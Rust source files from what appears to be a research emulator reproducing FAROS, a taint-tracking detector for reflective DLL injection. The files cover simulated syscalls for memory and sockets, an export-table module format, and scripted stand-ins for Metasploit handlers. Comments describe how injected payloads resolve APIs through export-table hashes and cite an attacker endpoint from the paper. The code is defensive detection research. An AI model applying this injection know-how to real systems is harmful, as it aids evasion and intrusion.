                thread.state = ThreadState::Suspended(n - 1);
                NtStatus::Success
            }
            _ => NtStatus::Success,
        }
    }

    fn sys_create_thread<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let target = match self.resolve_process(pid, a[0]) {
            Ok(t) => t,
            Err(s) => return s,
        };
        let suspended = a[3] & 1 != 0;
        match self.create_thread_with_stack(target, a[1], a[2], suspended, obs) {
            Ok(tid) => {
                let proc = self.procs.get_mut(&pid).expect("caller exists");
                let h = proc.handles.insert(HandleObject::Thread(target, tid));
                self.out_u32s(pid, a[4], &[h.0], obs)
            }
            Err(_) => NtStatus::NoMemory,
        }
    }

    fn ctx_to_words(ctx: &CpuContext) -> [u32; 10] {
        let mut w = [0u32; 10];
        w[..8].copy_from_slice(&ctx.regs);
        w[8] = ctx.eip;
        w[9] = (ctx.flags.zf as u32)
            | ((ctx.flags.sf as u32) << 1)
            | ((ctx.flags.cf as u32) << 2)
            | ((ctx.flags.of as u32) << 3);
        w
    }

    fn words_to_ctx(words: &[u32; 10]) -> CpuContext {
        let mut ctx = CpuContext::default();
        ctx.regs.copy_from_slice(&words[..8]);
        ctx.eip = words[8];
        ctx.flags.zf = words[9] & 1 != 0;
        ctx.flags.sf = words[9] & 2 != 0;
        ctx.flags.cf = words[9] & 4 != 0;
        ctx.flags.of = words[9] & 8 != 0;
        ctx
    }

    fn sys_get_context<O: Observer>(&mut self, pid: Pid, tid: Tid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let (tp, tt) = match self.resolve_thread(pid, tid, a[0]) {
            Ok(x) => x,
            Err(s) => return s,
        };
        let Some(thread) = self.procs.get(&tp).and_then(|p| p.threads.get(&tt)) else {
            return NtStatus::InvalidHandle;
        };
        let words = Self::ctx_to_words(&thread.ctx);
        self.out_u32s(pid, a[1], &words, obs)
    }

    fn sys_set_context(&mut self, pid: Pid, tid: Tid, a: [u32; 5]) -> NtStatus {
        let (tp, tt) = match self.resolve_thread(pid, tid, a[0]) {
            Ok(x) => x,
            Err(s) => return s,
        };
        let Ok(bytes) = self.read_guest(pid, a[1], 40) else {
            return NtStatus::AccessViolation;
        };
        let mut words = [0u32; 10];
        for (i, w) in words.iter_mut().enumerate() {
            *w = u32::from_le_bytes(bytes[i * 4..i * 4 + 4].try_into().expect("4 bytes"));
        }
        let Some(thread) = self.procs.get_mut(&tp).and_then(|p| p.threads.get_mut(&tt)) else {
            return NtStatus::InvalidHandle;
        };
        thread.ctx = Self::words_to_ctx(&words);
        NtStatus::Success
    }

    fn sys_alloc_vm<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let target = match self.resolve_process(pid, a[0]) {
            Ok(t) => t,
            Err(s) => return s,
        };
        let size = a[1].div_ceil(PAGE_SIZE).max(1) * PAGE_SIZE;
        let perms = perms_from_bits(a[2]);
        let base = {
            let Some(proc) = self.procs.get_mut(&target) else {
                return NtStatus::InvalidHandle;
            };
            let base = proc.next_alloc_va;
            proc.next_alloc_va = base + size + PAGE_SIZE; // guard gap
            base
        };
        match self.map_fresh(target, base, size, perms, RegionKind::Private, obs) {
            Ok(()) => self.out_u32s(pid, a[3], &[base], obs),
            Err(crate::machine::MachineError::OutOfMemory) => NtStatus::NoMemory,
            Err(_) => NtStatus::ConflictingAddresses,
        }
    }

    fn sys_protect_vm(&mut self, pid: Pid, a: [u32; 5]) -> NtStatus {
        let target = match self.resolve_process(pid, a[0]) {
            Ok(t) => t,
            Err(s) => return s,
        };
        let va = a[1] & !(PAGE_SIZE - 1);
        let pages = a[2].div_ceil(PAGE_SIZE).max(1);
        let perms = perms_from_bits(a[3]);
        let Some(proc) = self.procs.get_mut(&target) else {
            return NtStatus::InvalidHandle;
        };
        let mut ok = true;
        for page in 0..pages {
            if proc.aspace.protect(va + page * PAGE_SIZE, perms).is_none() {
                ok = false;
                break;
            }
        }
        if ok {
            proc.set_region_perms(va, perms);
        }
        // Protection changes can grant or revoke execute on pages that back
        // cached blocks (VirtualProtect before a jump into fresh shellcode);
        // drop the cache even on partial failure — earlier pages changed.
        self.tcache.invalidate_all();
        if ok {
            NtStatus::Success
        } else {
            NtStatus::InvalidParameter
        }
    }

    fn sys_free_vm(&mut self, pid: Pid, a: [u32; 5]) -> NtStatus {
        let target = match self.resolve_process(pid, a[0]) {
            Ok(t) => t,
            Err(s) => return s,
        };
        match self.unmap_region(target, a[1]) {
            Ok(_) => NtStatus::Success,
            Err(_) => NtStatus::InvalidParameter,
        }
    }

    fn sys_write_vm<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let target = match self.resolve_process(pid, a[0]) {
            Ok(t) => t,
            Err(s) => return s,
        };
        match self.guest_copy(pid, a[2], target, a[1], a[3], obs) {
            Ok(()) => NtStatus::Success,
            Err(_) => NtStatus::AccessViolation,
        }
    }

    fn sys_read_vm<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let target = match self.resolve_process(pid, a[0]) {
            Ok(t) => t,
            Err(s) => return s,
        };
        match self.guest_copy(target, a[1], pid, a[2], a[3], obs) {
            Ok(()) => NtStatus::Success,
            Err(_) => NtStatus::AccessViolation,
        }
    }

    fn sys_query_vm<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let target = match self.resolve_process(pid, a[0]) {
            Ok(t) => t,
            Err(s) => return s,
        };
        let Some(proc) = self.procs.get(&target) else {
            return NtStatus::InvalidHandle;
        };
        let Some(region) = proc.region_containing(a[1]) else {
            return NtStatus::InvalidParameter;
        };
        let kind = match region.kind {
            RegionKind::Image { .. } => 0,
            RegionKind::Private => 1,
            RegionKind::Stack => 2,
            RegionKind::Mapped { .. } => 3,
        };
        let words = [region.base, region.size, perms_to_bits(region.perms), kind];
        self.out_u32s(pid, a[2], &words, obs)
    }

    fn sys_query_process<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let target = match self.resolve_process(pid, a[0]) {
            Ok(t) => t,
            Err(s) => return s,
        };
        let Some(proc) = self.procs.get(&target) else {
            return NtStatus::InvalidHandle;
        };
        let words = [
            proc.pid.0,
            proc.parent.map(|p| p.0).unwrap_or(0),
            proc.is_alive() as u32,
        ];
        self.out_u32s(pid, a[1], &words, obs)
    }

    // ------------------------------------------------------------------
    // sockets
    // ------------------------------------------------------------------

    fn sys_socket_create<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let proc = self.procs.get_mut(&pid).expect("caller exists");
        let h = proc.handles.insert(HandleObject::Socket { conn: None, local_port: None });
        self.out_u32s(pid, a[0], &[h.0], obs)
    }

    fn sys_socket_connect(&mut self, pid: Pid, a: [u32; 5]) -> NtStatus {
        let tick = self.ticks();
        let ip = a[1].to_be_bytes();
        let port = a[2] as u16;
        let Some(conn) = self.net.connect(ip, port, tick) else {
            return NtStatus::ConnectionRefused;
        };
        let proc = self.procs.get_mut(&pid).expect("caller exists");
        match proc.handles.get_mut(Handle(a[0])) {
            Some(HandleObject::Socket { conn: c, .. }) => {
                *c = Some(conn);
                NtStatus::Success
            }
            _ => NtStatus::InvalidHandle,
        }
    }

    fn sys_socket_bind(&mut self, pid: Pid, a: [u32; 5]) -> NtStatus {
        let proc = self.procs.get_mut(&pid).expect("caller exists");
        match proc.handles.get_mut(Handle(a[0])) {
            Some(HandleObject::Socket { local_port, .. }) => {
                *local_port = Some(a[1] as u16);
                NtStatus::Success
            }
            _ => NtStatus::InvalidHandle,
        }
    }

    fn sys_socket_listen(&mut self, pid: Pid, a: [u32; 5]) -> NtStatus {
        let proc = self.procs.get(&pid).expect("caller exists");
        match proc.handles.get(Handle(a[0])) {
            Some(HandleObject::Socket { local_port: Some(_), .. }) => NtStatus::Success,
            Some(HandleObject::Socket { local_port: None, .. }) => {
                NtStatus::InvalidDeviceState
            }
            _ => NtStatus::InvalidHandle,
        }
    }

    /// Blocking accept: `NtSocketAccept(listen_h, out_handle_ptr)`. Parks
    /// until a scheduled remote peer dials the bound port.
    fn sys_socket_accept<O: Observer>(
        &mut self,
        pid: Pid,
        tid: Tid,
        a: [u32; 5],
        obs: &mut O,
    ) -> Option<NtStatus> {
        let port = {
            let proc = self.procs.get(&pid).expect("caller exists");
            match proc.handles.get(Handle(a[0])) {
                Some(HandleObject::Socket { local_port: Some(p), .. }) => *p,
                Some(HandleObject::Socket { local_port: None, .. }) => {
                    return Some(NtStatus::InvalidDeviceState)
                }
                _ => return Some(NtStatus::InvalidHandle),
            }
        };
        let tick = self.ticks();
        match self.net.accept(port, tick) {
            Some(conn) => {
                let proc = self.procs.get_mut(&pid).expect("caller exists");
                let h = proc.handles.insert(HandleObject::Socket {
                    conn: Some(conn),
                    local_port: Some(port),
                });
                Some(self.out_u32s(pid, a[1], &[h.0], obs))
            }
            None => {
                if let Some(t) = self.procs.get_mut(&pid).and_then(|p| p.threads.get_mut(&tid))
                {
                    t.state = ThreadState::Blocked(BlockReason::NetAccept { port });
                }
                None
            }
        }
    }

    fn sys_socket_send<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let conn = {
            let proc = self.procs.get(&pid).expect("caller exists");
            match proc.handles.get(Handle(a[0])) {
                Some(HandleObject::Socket { conn: Some(c), .. }) => *c,
                Some(HandleObject::Socket { conn: None, .. }) => {
                    return NtStatus::InvalidDeviceState
                }
                _ => return NtStatus::InvalidHandle,
            }
        };
        let Ok(bytes) = self.read_guest(pid, a[1], a[2]) else {
            return NtStatus::AccessViolation;
        };
        let src_runs = self
            .phys_runs(pid, a[1], a[2], Access::Read)
            .expect("read_guest just succeeded");
        if !self.net.send(conn, &bytes) {
            return NtStatus::ConnectionReset;
        }
        if let Some(flow) = self.net.flow(conn) {
            obs.net_tx(pid, &flow, &src_runs);
        }
        self.out_u32s(pid, a[3], &[bytes.len() as u32], obs)
    }

    /// Blocking receive. Returns `None` (park) when no bytes are available.
    fn sys_socket_recv<O: Observer>(
        &mut self,
        pid: Pid,
        tid: Tid,
        a: [u32; 5],
        obs: &mut O,
    ) -> Option<NtStatus> {
        let conn = {
            let proc = self.procs.get(&pid).expect("caller exists");
            match proc.handles.get(Handle(a[0])) {
                Some(HandleObject::Socket { conn: Some(c), .. }) => *c,
                Some(HandleObject::Socket { conn: None, .. }) => {
                    return Some(NtStatus::InvalidDeviceState)
                }
                _ => return Some(NtStatus::InvalidHandle),
            }
        };
        let tick = self.ticks();
        match self.net.recv(conn, a[2] as usize, tick) {
            RecvOutcome::Data { flow, bytes } => {
                let runs = match self.write_guest(pid, a[1], &bytes) {
                    Ok(r) => r,
                    Err(_) => return Some(NtStatus::AccessViolation),
                };
                obs.net_rx(pid, &flow, &runs);
                Some(self.out_u32s(pid, a[3], &[bytes.len() as u32], obs))
            }
            RecvOutcome::Closed => {
                let _ = self.out_u32s(pid, a[3], &[0], obs);
                Some(NtStatus::ConnectionReset)
            }
            RecvOutcome::WouldBlock => {
                if let Some(t) = self.procs.get_mut(&pid).and_then(|p| p.threads.get_mut(&tid))
                {
                    t.state = ThreadState::Blocked(BlockReason::NetRecv { conn });
                }
                None
            }
        }
    }

    // ------------------------------------------------------------------
    // misc
    // ------------------------------------------------------------------

    fn sys_sleep(&mut self, pid: Pid, tid: Tid, a: [u32; 5], retried: bool) -> Option<NtStatus> {
        if retried {
            // The scheduler only re-dispatches a sleeping thread once its
            // wake tick has passed.
            return Some(NtStatus::Success);
        }
        let until = self.ticks() + a[0] as u64;
        if let Some(t) = self.procs.get_mut(&pid).and_then(|p| p.threads.get_mut(&tid)) {
            t.state = ThreadState::Blocked(BlockReason::Sleep { until });
        }
        None
    }

    fn sys_query_time<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let tick = self.ticks() as u32;
        self.out_u32s(pid, a[0], &[tick], obs)
    }

    /// `LdrLoadDll(path_ptr, path_len, out_base_ptr)`: loads and *registers*
    /// a library module in the calling process (sections mapped, export
    /// table materialized, module visible in the DLL list).
    fn sys_load_library<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let Ok(path) = self.read_path(pid, a[0], a[1]) else {
            return NtStatus::AccessViolation;
        };
        match self.load_image_into(pid, &path, obs) {
            Ok(module) => self.out_u32s(pid, a[2], &[module.base], obs),
            Err(crate::machine::MachineError::NoSuchFile(_)) => NtStatus::ObjectNameNotFound,
            Err(crate::machine::MachineError::AddressConflict(_)) => {
                NtStatus::ConflictingAddresses
            }
            Err(_) => NtStatus::InvalidParameter,
        }
    }

    fn sys_display_string<O: Observer>(&mut self, pid: Pid, a: [u32; 5], obs: &mut O) -> NtStatus {
        let Ok(text) = self.read_guest_str(pid, a[0], a[1].min(512)) else {
            return NtStatus::AccessViolation;
        };
        obs.console_output(pid, &text);
        self.push_console(pid, text);
        NtStatus::Success
    }
}
