//! FDL — the guest executable/module format (the reproduction's PE).
//!
//! An FDL image has sections (code/data, with page permissions) and an
//! **export table**: an array of 32-byte entries, each holding a
//! zero-padded name, a djb2 name hash, and the exported function's virtual
//! address. The export table is materialized into guest memory at load time;
//! FAROS taints the four *function-pointer bytes* of every entry with the
//! export-table tag (paper §V-A: "FAROS scans all loaded modules and taints
//! the function pointers in the export tables").
//!
//! Reflective payloads resolve APIs exactly the way the paper describes the
//! Metasploit DLL doing it: walk the kernel module's export table comparing
//! name hashes, then read the function pointer — and it is that read the
//! FAROS invariant fires on.

use faros_emu::mmu::Perms;
use std::fmt;

/// Magic bytes at the start of every FDL image.
pub const FDL_MAGIC: [u8; 4] = *b"FDL1";

/// Size of one export-table entry in guest memory.
pub const EXPORT_ENTRY_SIZE: u32 = 32;

/// Offset of the name-hash field within an export entry.
pub const EXPORT_HASH_OFFSET: u32 = 24;

/// Offset of the function-pointer field within an export entry — the four
/// bytes FAROS taints.
pub const EXPORT_PTR_OFFSET: u32 = 28;

/// Maximum stored name length (zero-padded).
pub const EXPORT_NAME_LEN: usize = 24;

/// The djb2 hash used for export-name lookup (easy to compute from FE32
/// guest code: `h = h*33 + byte`).
pub fn hash_name(name: &str) -> u32 {
    let mut h: u32 = 5381;
    for &b in name.as_bytes() {
        h = h.wrapping_mul(33).wrapping_add(b as u32);
    }
    h
}

/// One exported symbol.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Export {
    /// Symbol name (≤ 24 bytes).
    pub name: String,
    /// Virtual address of the function.
    pub va: u32,
}

impl Export {
    /// The symbol's djb2 hash.
    pub fn hash(&self) -> u32 {
        hash_name(&self.name)
    }
}

/// One loadable section.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Section {
    /// Virtual address the section maps at.
    pub va: u32,
    /// Raw bytes (padded to its in-memory size).
    pub data: Vec<u8>,
    /// Page permissions.
    pub perms: Perms,
}

impl Section {
    /// One past the last virtual address the section's bytes occupy.
    pub fn end_va(&self) -> u32 {
        self.va.saturating_add(self.data.len() as u32)
    }

    /// Returns `true` if `va` falls inside the section's byte range.
    pub fn contains(&self, va: u32) -> bool {
        va >= self.va && va < self.end_va()
    }

    /// Returns `true` if the section maps executable.
    pub fn is_code(&self) -> bool {
        self.perms.contains(Perms::X)
    }
}

/// Error parsing an FDL image.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FdlError {
    /// Missing or wrong magic.
    BadMagic,
    /// The header or a table is truncated or inconsistent.
    Malformed(&'static str),
}

impl fmt::Display for FdlError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FdlError::BadMagic => write!(f, "not an FDL image (bad magic)"),
            FdlError::Malformed(what) => write!(f, "malformed FDL image: {what}"),
        }
    }
}

impl std::error::Error for FdlError {}

/// A parsed (or freshly built) FDL image.
///
/// # Examples
///
/// ```
/// use faros_emu::mmu::Perms;
/// use faros_kernel::module::{Export, FdlImage, Section};
///
/// let image = FdlImage {
///     entry: 0x40_0000,
///     export_table_va: 0x40_2000,
///     sections: vec![Section { va: 0x40_0000, data: vec![0x71], perms: Perms::RX }],
///     exports: vec![Export { name: "main".into(), va: 0x40_0000 }],
/// };
/// let bytes = image.to_bytes();
/// let parsed = FdlImage::parse(&bytes).unwrap();
/// assert_eq!(parsed, image);
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FdlImage {
    /// Entry-point virtual address.
    pub entry: u32,
    /// Virtual address the loader materializes the export table at.
    pub export_table_va: u32,
    /// Loadable sections.
    pub sections: Vec<Section>,
    /// Exported symbols.
    pub exports: Vec<Export>,
}

impl FdlImage {
    /// Serializes the image to its on-disk byte format.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = Vec::new();
        out.extend_from_slice(&FDL_MAGIC);
        out.extend_from_slice(&self.entry.to_le_bytes());
        out.extend_from_slice(&self.export_table_va.to_le_bytes());
        out.extend_from_slice(&(self.sections.len() as u32).to_le_bytes());
        out.extend_from_slice(&(self.exports.len() as u32).to_le_bytes());
        // Section headers; data offsets are computed after the tables.
        let headers_len = 20 + self.sections.len() * 16 + self.exports.len() * 28;
        let mut offset = headers_len as u32;
        for s in &self.sections {
            out.extend_from_slice(&s.va.to_le_bytes());
            out.extend_from_slice(&offset.to_le_bytes());
            out.extend_from_slice(&(s.data.len() as u32).to_le_bytes());
            let p: u32 = (s.perms.contains(Perms::R) as u32)
                | ((s.perms.contains(Perms::W) as u32) << 1)
                | ((s.perms.contains(Perms::X) as u32) << 2);
            out.extend_from_slice(&p.to_le_bytes());
            offset += s.data.len() as u32;
        }
        for e in &self.exports {
            let mut name = [0u8; EXPORT_NAME_LEN];
            let src = e.name.as_bytes();
            name[..src.len().min(EXPORT_NAME_LEN)]
                .copy_from_slice(&src[..src.len().min(EXPORT_NAME_LEN)]);
            out.extend_from_slice(&name);
            out.extend_from_slice(&e.va.to_le_bytes());
        }
        for s in &self.sections {
            out.extend_from_slice(&s.data);
        }
        out
    }

    /// Parses an image from bytes.
    ///
    /// # Errors
    ///
    /// Returns [`FdlError`] for wrong magic or inconsistent tables.
    pub fn parse(bytes: &[u8]) -> Result<FdlImage, FdlError> {
        fn u32_at(b: &[u8], at: usize) -> Result<u32, FdlError> {
            b.get(at..at + 4)
                .map(|s| u32::from_le_bytes([s[0], s[1], s[2], s[3]]))
                .ok_or(FdlError::Malformed("truncated header"))
        }
        if bytes.get(..4) != Some(&FDL_MAGIC[..]) {
            return Err(FdlError::BadMagic);
        }
        let entry = u32_at(bytes, 4)?;
        let export_table_va = u32_at(bytes, 8)?;
        let n_sections = u32_at(bytes, 12)? as usize;
        let n_exports = u32_at(bytes, 16)? as usize;
        if n_sections > 64 || n_exports > 1024 {
            return Err(FdlError::Malformed("implausible table sizes"));
        }
        let mut sections = Vec::with_capacity(n_sections);
        let mut cursor = 20;
        let mut raw_sections = Vec::with_capacity(n_sections);
        for _ in 0..n_sections {
            let va = u32_at(bytes, cursor)?;
            let off = u32_at(bytes, cursor + 4)? as usize;
            let size = u32_at(bytes, cursor + 8)? as usize;
            let p = u32_at(bytes, cursor + 12)?;
            let mut perms = Perms::NONE;
            if p & 1 != 0 {
                perms = perms.union(Perms::R);
            }
            if p & 2 != 0 {
                perms = perms.union(Perms::W);
            }
            if p & 4 != 0 {
                perms = perms.union(Perms::X);
            }
            raw_sections.push((va, off, size, perms));
            cursor += 16;
        }
        let mut exports = Vec::with_capacity(n_exports);
        for _ in 0..n_exports {
            let name_bytes = bytes
                .get(cursor..cursor + EXPORT_NAME_LEN)
                .ok_or(FdlError::Malformed("truncated export table"))?;
            let end = name_bytes.iter().position(|&b| b == 0).unwrap_or(EXPORT_NAME_LEN);
            let name = String::from_utf8_lossy(&name_bytes[..end]).into_owned();
            let va = u32_at(bytes, cursor + EXPORT_NAME_LEN)?;
            exports.push(Export { name, va });
            cursor += 28;
        }
        // Reject sections that wrap the 32-bit address space or overlap one
        // another: the loader would otherwise double-map pages (and an
        // attacker-supplied image could alias code under two protections).
        for &(va, _, size, _) in &raw_sections {
            if u64::from(va) + size as u64 > u64::from(u32::MAX) + 1 {
                return Err(FdlError::Malformed("section wraps the address space"));
            }
        }
        let mut spans: Vec<(u32, u64)> = raw_sections
            .iter()
            .filter(|&&(_, _, size, _)| size > 0)
            .map(|&(va, _, size, _)| (va, u64::from(va) + size as u64))
            .collect();
        spans.sort_unstable();
        for pair in spans.windows(2) {
            if u64::from(pair[1].0) < pair[0].1 {
                return Err(FdlError::Malformed("overlapping sections"));
            }
        }
        for (va, off, size, perms) in raw_sections {
            let data = bytes
                .get(off..off.checked_add(size).ok_or(FdlError::Malformed("section data out of range"))?)
                .ok_or(FdlError::Malformed("section data out of range"))?
                .to_vec();
            sections.push(Section { va, data, perms });
        }
        Ok(FdlImage { entry, export_table_va, sections, exports })
    }

    /// Lowest section virtual address (the module base); `entry` when the
    /// image has no sections.
    pub fn base(&self) -> u32 {
        self.sections.iter().map(|s| s.va).min().unwrap_or(self.entry)
    }

    /// The executable sections, in declaration order.
    pub fn code_sections(&self) -> impl Iterator<Item = &Section> {
        self.sections.iter().filter(|s| s.is_code())
    }

    /// The section whose byte range contains `va`.
    pub fn section_containing(&self, va: u32) -> Option<&Section> {
        self.sections.iter().find(|s| s.contains(va))
    }

    /// Returns `true` if `va` lies inside an executable section — the
    /// static analyzer's definition of "statically accounted-for code".
    pub fn is_code_va(&self, va: u32) -> bool {
        self.section_containing(va).is_some_and(Section::is_code)
    }

    /// Lays out the export table as it appears in guest memory:
    /// `count: u32` followed by 32-byte entries
    /// (`name[24] | hash: u32 | fn_ptr: u32`).
    pub fn export_table_bytes(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(4 + self.exports.len() * EXPORT_ENTRY_SIZE as usize);
        out.extend_from_slice(&(self.exports.len() as u32).to_le_bytes());
        for e in &self.exports {
            let mut name = [0u8; EXPORT_NAME_LEN];
            let src = e.name.as_bytes();
            name[..src.len().min(EXPORT_NAME_LEN)]
                .copy_from_slice(&src[..src.len().min(EXPORT_NAME_LEN)]);
            out.extend_from_slice(&name);
            out.extend_from_slice(&e.hash().to_le_bytes());
            out.extend_from_slice(&e.va.to_le_bytes());
        }
        out
    }

    /// Total bytes the materialized export table occupies.
    pub fn export_table_len(&self) -> u32 {
        4 + self.exports.len() as u32 * EXPORT_ENTRY_SIZE
    }
}

/// A module as registered with the kernel after loading.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ModuleInfo {
    /// Module name (file name, or `ntdll.fdl` for the kernel module).
    pub name: String,
    /// Lowest mapped virtual address.
    pub base: u32,
    /// Entry point.
    pub entry: u32,
    /// Virtual address of the materialized export table.
    pub export_table_va: u32,
    /// Exported symbols.
    pub exports: Vec<Export>,
}

impl ModuleInfo {
    /// Virtual address of entry `i`'s function-pointer field — the four
    /// bytes FAROS taints with the export-table tag.
    pub fn export_ptr_va(&self, i: usize) -> u32 {
        self.export_table_va + 4 + i as u32 * EXPORT_ENTRY_SIZE + EXPORT_PTR_OFFSET
    }

    /// Virtual address of entry `i` (start of its name field).
    pub fn export_entry_va(&self, i: usize) -> u32 {
        self.export_table_va + 4 + i as u32 * EXPORT_ENTRY_SIZE
    }

    /// Looks up an export by name.
    pub fn find_export(&self, name: &str) -> Option<&Export> {
        self.exports.iter().find(|e| e.name == name)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> FdlImage {
        FdlImage {
            entry: 0x40_0010,
            export_table_va: 0x40_3000,
            sections: vec![
                Section { va: 0x40_0000, data: vec![1, 2, 3, 4], perms: Perms::RX },
                Section { va: 0x40_1000, data: vec![9; 100], perms: Perms::RW },
            ],
            exports: vec![
                Export { name: "start".into(), va: 0x40_0010 },
                Export { name: "helper".into(), va: 0x40_0020 },
            ],
        }
    }

    #[test]
    fn image_round_trip() {
        let img = sample();
        assert_eq!(FdlImage::parse(&img.to_bytes()).unwrap(), img);
    }

    #[test]
    fn bad_magic_rejected() {
        assert_eq!(FdlImage::parse(b"ELF!xxxxxxxx"), Err(FdlError::BadMagic));
        assert_eq!(FdlImage::parse(b""), Err(FdlError::BadMagic));
    }

    #[test]
    fn truncated_image_rejected() {
        let bytes = sample().to_bytes();
        for cut in [5, 19, 30, bytes.len() - 1] {
            assert!(FdlImage::parse(&bytes[..cut]).is_err(), "cut at {cut}");
        }
    }

    #[test]
    fn export_table_layout() {
        let img = sample();
        let table = img.export_table_bytes();
        assert_eq!(table.len() as u32, img.export_table_len());
        // count
        assert_eq!(u32::from_le_bytes(table[..4].try_into().unwrap()), 2);
        // entry 0 name
        assert_eq!(&table[4..9], b"start");
        // entry 0 hash at +24, ptr at +28
        let hash = u32::from_le_bytes(table[4 + 24..4 + 28].try_into().unwrap());
        assert_eq!(hash, hash_name("start"));
        let ptr = u32::from_le_bytes(table[4 + 28..4 + 32].try_into().unwrap());
        assert_eq!(ptr, 0x40_0010);
    }

    #[test]
    fn module_info_pointer_addresses() {
        let img = sample();
        let info = ModuleInfo {
            name: "sample.fdl".into(),
            base: 0x40_0000,
            entry: img.entry,
            export_table_va: img.export_table_va,
            exports: img.exports.clone(),
        };
        assert_eq!(info.export_ptr_va(0), 0x40_3000 + 4 + 28);
        assert_eq!(info.export_ptr_va(1), 0x40_3000 + 4 + 32 + 28);
        assert_eq!(info.find_export("helper").unwrap().va, 0x40_0020);
        assert!(info.find_export("nope").is_none());
    }

    #[test]
    fn overlapping_sections_rejected() {
        let img = FdlImage {
            entry: 0x40_0000,
            export_table_va: 0,
            sections: vec![
                Section { va: 0x40_0000, data: vec![0; 0x100], perms: Perms::RX },
                Section { va: 0x40_0080, data: vec![0; 0x100], perms: Perms::RW },
            ],
            exports: vec![],
        };
        assert_eq!(
            FdlImage::parse(&img.to_bytes()),
            Err(FdlError::Malformed("overlapping sections"))
        );
        // Adjacent (end == next start) sections are fine.
        let ok = FdlImage {
            sections: vec![
                Section { va: 0x40_0000, data: vec![0; 0x100], perms: Perms::RX },
                Section { va: 0x40_0100, data: vec![0; 0x100], perms: Perms::RW },
            ],
            ..img
        };
        assert!(FdlImage::parse(&ok.to_bytes()).is_ok());
    }

    #[test]
    fn wrapping_section_rejected() {
        let img = FdlImage {
            entry: 0,
            export_table_va: 0,
            sections: vec![Section {
                va: 0xffff_ff00,
                data: vec![0; 0x200],
                perms: Perms::RX,
            }],
            exports: vec![],
        };
        assert_eq!(
            FdlImage::parse(&img.to_bytes()),
            Err(FdlError::Malformed("section wraps the address space"))
        );
    }

    #[test]
    fn section_and_image_accessors() {
        let img = sample();
        assert_eq!(img.base(), 0x40_0000);
        assert_eq!(img.code_sections().count(), 1);
        assert!(img.sections[0].is_code());
        assert!(!img.sections[1].is_code());
        assert!(img.sections[0].contains(0x40_0003));
        assert!(!img.sections[0].contains(0x40_0004));
        assert_eq!(img.section_containing(0x40_1050).unwrap().va, 0x40_1000);
        assert!(img.section_containing(0x50_0000).is_none());
        assert!(img.is_code_va(0x40_0000));
        assert!(!img.is_code_va(0x40_1000));
        // Sectionless images (the kernel module) fall back to entry.
        let bare = FdlImage { entry: 7, export_table_va: 0, sections: vec![], exports: vec![] };
        assert_eq!(bare.base(), 7);
    }

    #[test]
    fn hash_name_is_djb2() {
        assert_eq!(hash_name(""), 5381);
        // djb2("a") = 5381*33 + 97
        assert_eq!(hash_name("a"), 5381u32.wrapping_mul(33) + 97);
        assert_ne!(hash_name("LoadLibraryA"), hash_name("GetProcAddress"));
    }

    #[test]
    fn long_names_truncate_at_24_bytes() {
        let img = FdlImage {
            entry: 0,
            export_table_va: 0,
            sections: vec![],
            exports: vec![Export {
                name: "this_name_is_way_longer_than_twenty_four".into(),
                va: 1,
            }],
        };
        let parsed = FdlImage::parse(&img.to_bytes()).unwrap();
        assert_eq!(parsed.exports[0].name.len(), EXPORT_NAME_LEN);
    }
}
