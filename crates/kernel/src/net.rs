//! The simulated network: scripted remote endpoints, connections, and the
//! nondeterminism log that record/replay captures.
//!
//! The fabric is the only true taint *source* in the system: bytes a guest
//! `NtSocketRecv` places into guest memory are labeled with a netflow tag at
//! the delivery point, just as PANDA's taint2 labels virtio DMA buffers.
//!
//! In **live** mode, guest traffic is answered by deterministic
//! [`RemoteEndpoint`] scripts (our stand-ins for the Metasploit handler,
//! RAT servers, web servers, ...) and every guest-visible delivery is
//! appended to a [`NetLog`]. In **replay** mode the endpoints are detached
//! and deliveries come verbatim from the log, gated on the same virtual
//! tick, which is what makes a replay bit-identical to its recording.

use faros_support::json::{self, FromJson, JsonError, JsonValue, ToJson};
use std::collections::VecDeque;
use std::fmt;

/// A TCP-like flow 4-tuple. `src` is the *remote* end and `dst` the guest
/// end, matching the orientation of the paper's netflow tags (the attacker
/// at `169.254.26.161:4444` appears as the source).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct FlowTuple {
    /// Remote IPv4 address.
    pub src_ip: [u8; 4],
    /// Remote port.
    pub src_port: u16,
    /// Guest IPv4 address.
    pub dst_ip: [u8; 4],
    /// Guest (local) port.
    pub dst_port: u16,
}

impl fmt::Display for FlowTuple {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{}.{}.{}.{}:{} -> {}.{}.{}.{}:{}",
            self.src_ip[0], self.src_ip[1], self.src_ip[2], self.src_ip[3], self.src_port,
            self.dst_ip[0], self.dst_ip[1], self.dst_ip[2], self.dst_ip[3], self.dst_port,
        )
    }
}

/// A deterministic script playing the remote side of guest connections —
/// the reproduction's substitute for Metasploit handlers, RAT servers, and
/// web servers.
pub trait RemoteEndpoint {
    /// Called when a guest connection is established; returns bytes to
    /// deliver to the guest immediately.
    fn on_connect(&mut self) -> Vec<Vec<u8>> {
        Vec::new()
    }

    /// Called when the guest sends data; returns response chunks.
